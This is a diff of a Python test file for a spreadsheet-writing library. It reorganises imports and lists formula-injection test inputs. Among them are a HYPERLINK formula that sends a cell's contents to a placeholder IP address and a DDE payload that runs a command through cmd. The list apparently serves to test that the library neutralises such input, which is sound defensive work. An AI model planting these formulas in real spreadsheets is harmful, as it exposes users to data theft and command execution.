@@ -20,9 +20,17 @@ from small_year import make_year, return_all
 from xlsxwriter.exceptions import DuplicateWorksheetName
 
 from sheettools.cli.entry import run
-from sheettools.incoming.read import read_book
-from sheettools.outgoing.write import MAX_COLUMN, MAX_ROW, MAX_TEXT, BookWriter, SheetWriter, clean_text, write_text
-from sheettools.template.findings import SheettoolsError
+from sheettools.findings import SheettoolsError
+from sheettools.incoming.cage.read import read_book
+from sheettools.outgoing.workbook.write import (
+    MAX_COLUMN,
+    MAX_ROW,
+    MAX_TEXT,
+    BookWriter,
+    SheetWriter,
+    clean_text,
+    write_text,
+)
 
 INJECTIONS = (
     "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://192.0.2.1/?"&A1,"Bấm")', "=cmd|' /C calc'!A0", " =1+1",
